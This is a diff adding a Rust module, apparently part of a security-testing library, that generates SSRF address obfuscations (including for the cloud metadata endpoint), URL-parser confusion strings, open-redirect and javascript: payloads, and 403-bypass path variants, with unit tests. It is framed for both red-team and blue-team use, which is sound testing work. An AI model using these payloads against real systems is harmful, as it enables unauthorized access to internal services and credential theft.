@@ -0,0 +1,700 @@
+use crate::transformations::dedup_preserving_order;
+
+/// A URL split into the parts SSRF payloads need to rebuild it.
+pub(crate) struct UrlParts<'a> {
+    pub(crate) scheme: Option<&'a str>,
+    pub(crate) host: &'a str,
+    pub(crate) port: Option<&'a str>,
+    pub(crate) rest: &'a str,
+}
+
+impl<'a> UrlParts<'a> {
+    pub(crate) fn parse(url: &'a str) -> Self {
+        let (scheme, after_scheme) = match url.split_once("://") {
+            Some((scheme, rest)) => (Some(scheme), rest),
+            None => (None, url),
+        };
+        let authority_end = after_scheme
+            .find(['/', '?', '#'])
+            .unwrap_or(after_scheme.len());
+        let (authority, rest) = after_scheme.split_at(authority_end);
+
+        let (host, port) = if let Some(stripped) = authority.strip_prefix('[') {
+            // Bracketed IPv6 literal, optionally followed by :port
+            match stripped.split_once(']') {
+                Some((host, tail)) => (host, tail.strip_prefix(':')),
+                None => (authority, None),
+            }
+        } else if authority.matches(':').count() > 1 && !authority.contains('@') {
+            // Unbracketed IPv6 literal, which cannot carry a port
+            (authority, None)
+        } else {
+            match authority.rsplit_once(':') {
+                Some((host, port)) if port.chars().all(|c| c.is_ascii_digit()) => {
+                    (host, Some(port))
+                }
+                _ => (authority, None),
+            }
+        };
+
+        UrlParts {
+            scheme,
+            host,
+            port,
+            rest,
+        }
+    }
+
+    /// Rebuilds the URL around a replacement host, bracketing IPv6 literals.
+    pub(crate) fn with_host(&self, host: &str) -> String {
+        let mut url = String::new();
+        if let Some(scheme) = self.scheme {
+            url.push_str(scheme);
+            url.push_str("://");
+        }
+        url.push_str(&self.authority(host));
+        url.push_str(self.rest);
+        url
+    }
+
+    /// Joins `host` and the port into an authority, bracketing IPv6 literals.
+    pub(crate) fn authority(&self, host: &str) -> String {
+        let mut authority = bracket_host(host);
+        if let Some(port) = self.port {
+            authority.push(':');
+            authority.push_str(port);
+        }
+        authority
+    }
+}
+
+/// Wraps an IPv6 literal in brackets so it can stand in a URL authority.
+pub(crate) fn bracket_host(host: &str) -> String {
+    if host.contains(':') && !host.starts_with('[') {
+        format!("[{}]", host)
+    } else {
+        host.to_string()
+    }
+}
+
+pub(crate) fn parse_ipv4(host: &str) -> Option<[u8; 4]> {
+    let parts: Vec<&str> = host.split('.').collect();
+    if parts.len() != 4 {
+        return None;
+    }
+    let mut octets = [0u8; 4];
+    for (octet, part) in octets.iter_mut().zip(parts) {
+        if part.is_empty() || !part.chars().all(|c| c.is_ascii_digit()) {
+            return None;
+        }
+        *octet = part.parse().ok()?;
+    }
+    Some(octets)
+}
+
+/// Maps ASCII digits to circled Unicode digits (some resolvers NFKC-normalize them).
+fn enclosed_digits(host: &str) -> String {
+    host.chars()
+        .map(|c| match c {
+            '0' => '⓪',
+            '1'..='9' => char::from_u32(0x2460 + (c as u32 - '1' as u32)).unwrap_or(c),
+            _ => c,
+        })
+        .collect()
+}
+
+/// Alternative spellings of an IPv4 address that most resolvers treat as equal.
+fn ipv4_variants(octets: [u8; 4]) -> Vec<String> {
+    let [a, b, c, d] = octets;
+    let value = u32::from_be_bytes(octets);
+    let dotted = format!("{}.{}.{}.{}", a, b, c, d);
+
+    let mut variants = vec![
+        // Integer forms
+        value.to_string(),
+        format!("0x{:08x}", value),
+        format!("0{:o}", value),
+        // Dotted hex and octal
+        format!("0x{:x}.0x{:x}.0x{:x}.0x{:x}", a, b, c, d),
+        format!("0{:o}.0{:o}.0{:o}.0{:o}", a, b, c, d),
+        format!("0x{:x}.{}.{}.{}", a, b, c, d),
+        // Zero-padded octets
+        format!("{:03}.{:03}.{:03}.{:03}", a, b, c, d),
+        // Short forms: a.b.c (c as 16 bits) and a.b (24 bits)
+        format!("{}.{}.{}", a, b, u16::from_be_bytes([c, d])),
+        format!("{}.{}", a, value & 0x00ff_ffff),
+        // IPv6 embeddings
+        format!("[::ffff:{}]", dotted),
+        format!(
+            "[::ffff:{:x}:{:x}]",
+            u16::from_be_bytes([a, b]),
+            u16::from_be_bytes([c, d])
+        ),
+        format!("[0:0:0:0:0:ffff:{}]", dotted),
+        format!("[::{}]", dotted),
+        // Trailing dot and encoding tricks
+        format!("{}.", dotted),
+        dotted.replace('.', "%2e"),
+        enclosed_digits(&dotted),
+        // Wildcard DNS names that resolve back to the address
+        format!("{}.nip.io", dotted),
+        format!("{}.sslip.io", dotted.replace('.', "-")),
+        format!("{:08x}.nip.io", value),
+    ];
+
+    if a == 127 {
+        variants.extend(
+            [
+                "localhost",
+                "localhost.",
+                "LocalHost",
+                "127.1",
+                "127.0.1",
+                "127.127.127.127",
+                "0",
+                "0.0.0.0",
+                "[::]",
+                "[::1]",
+                "[0:0:0:0:0:0:0:1]",
+                "[::ffff:0.0.0.0]",
+            ]
+            .iter()
+            .map(|s| s.to_string()),
+        );
+    }
+
+    variants
+}
+
+/// Generates obfuscated forms of an internal SSRF target.
+///
+/// Accepts a bare host/IP (`127.0.0.1`, `localhost`) or a full URL
+/// (`http://169.254.169.254/latest/meta-data/`) and emits equivalent targets
+/// that naive deny-lists miss: decimal/hex/octal and short-form IPv4,
+/// IPv6-mapped addresses, `0.0.0.0`/`[::]` loopback equivalents, trailing-dot
+/// hosts, percent-encoded and enclosed-digit forms, and wildcard-DNS names
+/// (`nip.io`, `sslip.io`) that can also seed DNS-rebinding tests. Scheme, port
+/// and path are preserved when a URL is given.
+///
+/// # Use Cases
+///
+/// - **Red Team**: Bypass SSRF allow/deny lists that compare host strings
+/// - **Blue Team**: Verify SSRF protections resolve and canonicalize addresses
+///
+/// # Examples
+///
+/// ```
+/// use redstr::ssrf_variations;
+/// let targets = ssrf_variations("127.0.0.1");
+/// assert!(targets.contains(&"2130706433".to_string()));
+/// assert!(targets.contains(&"0x7f000001".to_string()));
+/// assert!(targets.contains(&"[::ffff:127.0.0.1]".to_string()));
+///
+/// let urls = ssrf_variations("http://169.254.169.254/latest/meta-data/");
+/// assert!(urls.contains(&"http://2852039166/latest/meta-data/".to_string()));
+/// ```
+pub fn ssrf_variations(target: &str) -> Vec<String> {
+    let parts = UrlParts::parse(target.trim());
+    if parts.host.is_empty() {
+        return Vec::new();
+    }
+
+    let loopback = parts.host.eq_ignore_ascii_case("localhost")
+        || matches!(parts.host, "::1" | "0:0:0:0:0:0:0:1");
+    let hosts = if loopback {
+        let mut hosts = ipv4_variants([127, 0, 0, 1]);
+        hosts.push("127.0.0.1".to_string());
+        hosts
+    } else if let Some(octets) = parse_ipv4(parts.host) {
+        ipv4_variants(octets)
+    } else if parts.host.contains(':') {
+        // Other IPv6 literals: a trailing dot or `%2e` would not parse
+        vec![parts.host.to_uppercase()]
+    } else {
+        vec![
+            format!("{}.", parts.host),
+            parts.host.to_uppercase(),
+            parts.host.replace('.', "%2e"),
+        ]
+    };
+
+    let original = parts.with_host(parts.host);
+    dedup_preserving_order(
+        hosts
+            .iter()
+            .map(|host| parts.with_host(host))
+            .filter(|url| *url != original),
+    )
+}
+
+/// Generates URLs that different parsers disagree about the host of.
+///
+/// Each payload is built so that a validator may see `allowed_host` as the
+/// host while a fetching client connects to `attacker_host` (or vice versa):
+/// userinfo `@` tricks, `#`/`?` delimiters before `@`, backslash vs. slash
+/// handling, embedded whitespace and encoded delimiters, plus substring
+/// tricks that defeat `contains`/`ends_with` checks.
+///
+/// # Use Cases
+///
+/// - **Red Team**: SSRF and open-redirect allow-list bypasses
+/// - **Blue Team**: Check that URL validation and fetching use the same parser
+///
+/// # Examples
+///
+/// ```
+/// use redstr::url_confusion;
+/// let urls = url_confusion("trusted.com", "evil.com");
+/// assert!(urls.contains(&"http://trusted.com@evil.com/".to_string()));
+/// assert!(urls.contains(&"http://evil.com#@trusted.com/".to_string()));
+/// assert!(urls.contains(&"http://evil.com\\@trusted.com/".to_string()));
+/// ```
+pub fn url_confusion(allowed_host: &str, attacker_host: &str) -> Vec<String> {
+    let allowed = allowed_host.trim();
+    let attacker = attacker_host.trim();
+    if allowed.is_empty() || attacker.is_empty() {
+        return Vec::new();
+    }
+
+    let payloads = [
+        // Userinfo: allowed host is only the username
+        format!("http://{}@{}/", allowed, attacker),
+        format!("http://{}:80@{}/", allowed, attacker),
+        format!("http://{}%40{}/", allowed, attacker),
+        // Delimiters before @: some parsers stop at them, others at @
+        format!("http://{}#@{}/", attacker, allowed),
+        format!("http://{}?@{}/", attacker, allowed),
+        format!("http://{};@{}/", attacker, allowed),
+        format!("http://{}%23@{}/", attacker, allowed),
+        format!("http://{}&@{}#@{}/", allowed, attacker, allowed),
+        // Backslash: WHATWG treats it as '/', RFC 3986 parsers do not
+        format!("http://{}\\@{}/", attacker, allowed),
+        format!("http://{}\\@{}/", allowed, attacker),
+        format!("http://{}\\{}/", attacker, allowed),
+        format!("http:/\\{}/", attacker),
+        // Whitespace inside the authority
+        format!("http://{} &@{}# @{}/", attacker, allowed, allowed),
+        format!("http://{}\t@{}/", attacker, allowed),
+        format!("http://{}%20@{}/", attacker, allowed),
+        // Fragment and substring tricks
+        format!("http://{}#.{}/", attacker, allowed),
+        format!("http://{}%00.{}/", attacker, allowed),
+        format!("http://{}.{}/", allowed, attacker),
+        format!("http://{}/{}", attacker, allowed),
+        format!("http://{}/?{}", attacker, allowed),
+        format!("http://{}/#{}", attacker, allowed),
+    ];
+
+    dedup_preserving_order(payloads)
+}
+
+/// Generates open-redirect payloads pointing at `target`.
+///
+/// `target` may be a bare host (`evil.com`) or a URL; only the host is used.
+/// The corpus covers protocol-relative and slash/backslash-mixed forms,
+/// scheme-less and scheme-encoded URLs, whitespace and encoded-separator
+/// prefixes, an ideographic full stop in place of the dot, and `javascript:`
+/// variants. Each entry can be dropped directly into a redirect parameter.
+///
+/// # Use Cases
+///
+/// - **Red Team**: Fuzz `redirect`, `next` and `returnTo` parameters
+/// - **Blue Team**: Validate redirect allow-lists against real-world bypasses
+///
+/// # Examples
+///
+/// ```
+/// use redstr::open_redirect_payloads;
+/// let payloads = open_redirect_payloads("evil.com");
+/// assert!(payloads.contains(&"//evil.com".to_string()));
+/// assert!(payloads.contains(&"/\\evil.com".to_string()));
+/// assert!(payloads.iter().any(|p| p.starts_with("javascript:")));
+/// ```
+pub fn open_redirect_payloads(target: &str) -> Vec<String> {
+    let parts = UrlParts::parse(target.trim());
+    if parts.host.is_empty() {
+        return Vec::new();
+    }
+    let host = parts.authority(parts.host);
+
+    let payloads = [
+        // Absolute and scheme-less
+        format!("https://{}", host),
+        format!("http://{}", host),
+        format!("https:{}", host),
+        format!("http:/{}", host),
+        // Protocol-relative and slash/backslash mixes
+        format!("//{}", host),
+        format!("///{}", host),
+        format!("////{}", host),
+        format!("/\\{}", host),
+        format!("\\/{}", host),
+        format!("/\\/{}", host),
+        format!("\\\\{}", host),
+        format!("//{}/%2f..", host),
+        format!("//{}@{}", host, host),
+        // Encoded separators and whitespace prefixes
+        format!("/%09/{}", host),
+        format!("/%5c{}", host),
+        format!("%2f%2f{}", host),
+        format!("/%2f%2f{}", host),
+        format!("https%3a%2f%2f{}", host),
+        format!("https:%2f%2f{}", host),
+        format!(" //{}", host),
+        format!("//{}", host.replace('.', "\u{3002}")),
+        // javascript: variants
+        "javascript:alert(1)".to_string(),
+        "JaVaScRiPt:alert(1)".to_string(),
+        "javascript://%0aalert(1)".to_string(),
+        format!("javascript://{}/%0aalert(document.domain)", host),
+        "java%0d%0ascript:alert(1)".to_string(),
+        "%6a%61%76%61%73%63%72%69%70%74:alert(1)".to_string(),
+        "\tjavascript:alert(1)".to_string(),
+    ];
+
+    dedup_preserving_order(payloads)
+}
+
+/// Generates path mutations that often slip past 403/401 access rules.
+///
+/// Front ends frequently match protected paths literally while the backend
+/// normalizes them, so `/admin` may be blocked while `/admin/.`,
+/// `//admin//`, `/%2e/admin` or `/admin..;/` reach the same handler.
+/// Covers dot and slash segments, `;` path parameters (Tomcat/Spring),
+/// trailing whitespace and null-byte encodings, suffixes (`?`, `#`, `.json`),
+/// percent-encoding of the first character, and case variants of the last
+/// segment.
+///
+/// # Use Cases
+///
+/// - **Red Team**: Bypass path-based access controls without external wordlists
+/// - **Blue Team**: Confirm authorization is enforced after path normalization
+///
+/// # Examples
+///
+/// ```
+/// use redstr::path_bypass_variants;
+/// let paths = path_bypass_variants("/admin");
+/// assert!(paths.contains(&"/admin/.".to_string()));
+/// assert!(paths.contains(&"//admin//".to_string()));
+/// assert!(paths.contains(&"/%2e/admin".to_string()));
+/// assert!(paths.contains(&"/admin..;/".to_string()));
+/// assert!(paths.contains(&"/ADMIN".to_string()));
+/// ```
+pub fn path_bypass_variants(path: &str) -> Vec<String> {
+    let trimmed = path.trim().trim_matches('/');
+    if trimmed.is_empty() {
+        return Vec::new();
+    }
+    let path = format!("/{}", trimmed);
+    let (head, last) = path.rsplit_once('/').unwrap_or(("", &path));
+    let mut chars = last.chars();
+    let first = chars.next().unwrap_or_default();
+    let tail = chars.as_str();
+
+    let mut capitalized = first.to_uppercase().to_string();
+    capitalized.push_str(&tail.to_lowercase());
+    let alternating: String = last
+        .chars()
+        .enumerate()
+        .map(|(i, c)| {
+            if i % 2 == 0 {
+                c.to_ascii_lowercase()
+            } else {
+                c.to_ascii_uppercase()
+            }
+        })
+        .collect();
+
+    let mut variants = vec![
+        // Dot and slash segments
+        format!("{}/.", path),
+        format!("/{}//", path),
+        format!("/{}", path),
+        format!("/.{}/./", path),
+        format!("/%2e{}", path),
+        format!("{}/%2e/{}", head, last),
+        format!("{}%2f", path),
+        // Path parameters
+        format!("{}..;/", path),
+        format!("{}/..;/", path),
+        format!("{};/", path),
+        format!("/;{}", path),
+        format!("/.;{}", path),
+        // Trailing whitespace and null bytes
+        format!("{}%20", path),
+        format!("{}%09", path),
+        format!("{}%00", path),
+        // Suffixes
+        format!("{}/", path),
+        format!("{}?", path),
+        format!("{}#", path),
+        format!("{}/*", path),
+        format!("{}.json", path),
+        // Case variants of the last segment
+        format!("{}/{}", head, last.to_uppercase()),
+        format!("{}/{}", head, capitalized),
+        format!("{}/{}", head, alternating),
+    ];
+    if first.is_ascii() {
+        // Percent-encode the first character, single and double
+        variants.push(format!("{}/%{:02x}{}", head, first as u32, tail));
+        variants.push(format!("{}/%25{:02x}{}", head, first as u32, tail));
+    }
+
+    dedup_preserving_order(variants.into_iter().filter(|variant| *variant != path))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use std::collections::HashSet;
+
+    #[test]
+    fn test_ssrf_variations_loopback_integer_forms() {
+        let targets = ssrf_variations("127.0.0.1");
+        for expected in ["2130706433", "0x7f000001", "017700000001"] {
+            assert!(targets.contains(&expected.to_string()), "{}", expected);
+        }
+    }
+
+    #[test]
+    fn test_ssrf_variations_dotted_and_short_forms() {
+        let targets = ssrf_variations("127.0.0.1");
+        for expected in [
+            "0x7f.0x0.0x0.0x1",
+            "0177.00.00.01",
+            "127.0.1",
+            "127.1",
+            "127.000.000.001",
+        ] {
+            assert!(targets.contains(&expected.to_string()), "{}", expected);
+        }
+    }
+
+    #[test]
+    fn test_ssrf_variations_ipv6_and_unspecified() {
+        let targets = ssrf_variations("127.0.0.1");
+        for expected in ["[::ffff:7f00:1]", "[::1]", "[::]", "0.0.0.0", "localhost."] {
+            assert!(targets.contains(&expected.to_string()), "{}", expected);
+        }
+    }
+
+    #[test]
+    fn test_ssrf_variations_dns_forms() {
+        let targets = ssrf_variations("10.0.0.5");
+        assert!(targets.contains(&"10.0.0.5.nip.io".to_string()));
+        assert!(targets.contains(&"10-0-0-5.sslip.io".to_string()));
+        assert!(targets.contains(&"10.0.0.5.".to_string()));
+        assert!(!targets.contains(&"localhost".to_string()));
+    }
+
+    #[test]
+    fn test_ssrf_variations_enclosed_digits() {
+        let targets = ssrf_variations("127.0.0.1");
+        assert!(targets.contains(&"①②⑦.⓪.⓪.①".to_string()));
+    }
+
+    #[test]
+    fn test_ssrf_variations_preserves_url_parts() {
+        let targets = ssrf_variations("http://169.254.169.254:80/latest/meta-data/");
+        assert!(targets.contains(&"http://2852039166:80/latest/meta-data/".to_string()));
+        assert!(targets
+            .iter()
+            .all(|t| t.starts_with("http://") && t.ends_with("/latest/meta-data/")));
+    }
+
+    #[test]
+    fn test_ssrf_variations_localhost_name() {
+        let targets = ssrf_variations("http://localhost:8080/admin");
+        assert!(targets.contains(&"http://2130706433:8080/admin".to_string()));
+        assert!(targets.contains(&"http://127.0.0.1:8080/admin".to_string()));
+        assert!(!targets.contains(&"http://localhost:8080/admin".to_string()));
+    }
+
+    #[test]
+    fn test_ssrf_variations_bare_ipv6() {
+        let targets = ssrf_variations("::1");
+        assert!(targets.contains(&"2130706433".to_string()));
+        assert!(targets.contains(&"localhost".to_string()));
+        assert_eq!(ssrf_variations("2001:db8::1"), vec!["[2001:DB8::1]"]);
+    }
+
+    #[test]
+    fn test_ssrf_variations_ipv6_host() {
+        let targets = ssrf_variations("http://[::1]:8080/admin");
+        assert!(targets.contains(&"http://127.0.0.1:8080/admin".to_string()));
+        assert!(targets.contains(&"http://[0:0:0:0:0:0:0:1]:8080/admin".to_string()));
+        assert!(!targets.contains(&"http://[::1]:8080/admin".to_string()));
+        assert!(targets.iter().all(|t| !t.contains("://::")));
+        assert_eq!(
+            ssrf_variations("http://[fe80::a]/"),
+            vec!["http://[FE80::A]/"]
+        );
+    }
+
+    #[test]
+    fn test_ssrf_variations_hostname() {
+        let targets = ssrf_variations("internal.corp");
+        assert_eq!(
+            targets,
+            vec!["internal.corp.", "INTERNAL.CORP", "internal%2ecorp"]
+        );
+    }
+
+    #[test]
+    fn test_ssrf_variations_no_duplicates() {
+        let targets = ssrf_variations("127.0.0.1");
+        let unique: HashSet<&String> = targets.iter().collect();
+        assert_eq!(unique.len(), targets.len());
+    }
+
+    #[test]
+    fn test_ssrf_variations_empty() {
+        assert!(ssrf_variations("").is_empty());
+    }
+
+    #[test]
+    fn test_url_confusion_userinfo() {
+        let urls = url_confusion("trusted.com", "evil.com");
+        assert!(urls.contains(&"http://trusted.com@evil.com/".to_string()));
+        assert!(urls.contains(&"http://trusted.com:80@evil.com/".to_string()));
+    }
+
+    #[test]
+    fn test_url_confusion_delimiters() {
+        let urls = url_confusion("trusted.com", "evil.com");
+        assert!(urls.contains(&"http://evil.com#@trusted.com/".to_string()));
+        assert!(urls.contains(&"http://evil.com?@trusted.com/".to_string()));
+        assert!(urls.contains(&"http://evil.com\\@trusted.com/".to_string()));
+        assert!(urls.contains(&"http://evil.com &@trusted.com# @trusted.com/".to_string()));
+    }
+
+    #[test]
+    fn test_url_confusion_mentions_both_hosts() {
+        let urls = url_confusion("trusted.com", "evil.com");
+        assert!(urls.len() >= 15);
+        assert!(urls.iter().all(|u| u.contains("evil.com")));
+        assert!(urls
+            .iter()
+            .filter(|u| !u.starts_with("http:/\\"))
+            .all(|u| u.contains("trusted.com")));
+    }
+
+    #[test]
+    fn test_url_confusion_no_duplicates() {
+        let urls = url_confusion("a.com", "b.com");
+        let unique: HashSet<&String> = urls.iter().collect();
+        assert_eq!(unique.len(), urls.len());
+    }
+
+    #[test]
+    fn test_url_confusion_empty() {
+        assert!(url_confusion("", "evil.com").is_empty());
+        assert!(url_confusion("trusted.com", "  ").is_empty());
+    }
+
+    #[test]
+    fn test_open_redirect_payloads_protocol_relative() {
+        let payloads = open_redirect_payloads("evil.com");
+        for expected in ["//evil.com", "///evil.com", "/\\evil.com", "\\/evil.com"] {
+            assert!(payloads.contains(&expected.to_string()), "{}", expected);
+        }
+    }
+
+    #[test]
+    fn test_open_redirect_payloads_encoded_schemes() {
+        let payloads = open_redirect_payloads("evil.com");
+        assert!(payloads.contains(&"https%3a%2f%2fevil.com".to_string()));
+        assert!(payloads.contains(&"/%09/evil.com".to_string()));
+        assert!(payloads.contains(&"//evil\u{3002}com".to_string()));
+    }
+
+    #[test]
+    fn test_open_redirect_payloads_javascript() {
+        let payloads = open_redirect_payloads("evil.com");
+        let js: Vec<&String> = payloads
+            .iter()
+            .filter(|p| p.to_lowercase().contains("script"))
+            .collect();
+        assert!(js.len() >= 5);
+    }
+
+    #[test]
+    fn test_open_redirect_payloads_accepts_url() {
+        let payloads = open_redirect_payloads("https://evil.com:8443/landing");
+        assert!(payloads.contains(&"//evil.com:8443".to_string()));
+        assert!(!payloads.iter().any(|p| p.contains("/landing")));
+    }
+
+    #[test]
+    fn test_open_redirect_payloads_ipv6() {
+        let payloads = open_redirect_payloads("http://[::1]:80/");
+        assert!(payloads.contains(&"//[::1]:80".to_string()));
+        assert!(payloads.contains(&"https://[::1]:80".to_string()));
+        assert!(open_redirect_payloads("::1").contains(&"//[::1]".to_string()));
+    }
+
+    #[test]
+    fn test_open_redirect_payloads_empty() {
+        assert!(open_redirect_payloads("").is_empty());
+    }
+
+    #[test]
+    fn test_path_bypass_variants_dot_and_slash() {
+        let paths = path_bypass_variants("/admin");
+        for expected in [
+            "/admin/.",
+            "//admin//",
+            "/%2e/admin",
+            "/./admin/./",
+            "//admin",
+        ] {
+            assert!(paths.contains(&expected.to_string()), "{}", expected);
+        }
+    }
+
+    #[test]
+    fn test_path_bypass_variants_path_params_and_trailing() {
+        let paths = path_bypass_variants("/admin");
+        for expected in [
+            "/admin..;/",
+            "/admin;/",
+            "/;/admin",
+            "/admin%20",
+            "/admin%09",
+        ] {
+            assert!(paths.contains(&expected.to_string()), "{}", expected);
+        }
+    }
+
+    #[test]
+    fn test_path_bypass_variants_case_and_encoding() {
+        let paths = path_bypass_variants("/admin");
+        for expected in ["/ADMIN", "/Admin", "/aDmIn", "/%61dmin", "/%2561dmin"] {
+            assert!(paths.contains(&expected.to_string()), "{}", expected);
+        }
+    }
+
+    #[test]
+    fn test_path_bypass_variants_nested_path() {
+        let paths = path_bypass_variants("api/internal/");
+        assert!(paths.contains(&"/api/INTERNAL".to_string()));
+        assert!(paths.contains(&"/api/%2e/internal".to_string()));
+        assert!(paths.contains(&"/api/internal..;/".to_string()));
+        assert!(!paths.contains(&"/api/internal".to_string()));
+    }
+
+    #[test]
+    fn test_path_bypass_variants_no_duplicates() {
+        let paths = path_bypass_variants("/admin");
+        let unique: HashSet<&String> = paths.iter().collect();
+        assert_eq!(unique.len(), paths.len());
+    }
+
+    #[test]
+    fn test_path_bypass_variants_empty() {
+        assert!(path_bypass_variants("").is_empty());
+        assert!(path_bypass_variants("/").is_empty());
+    }
+}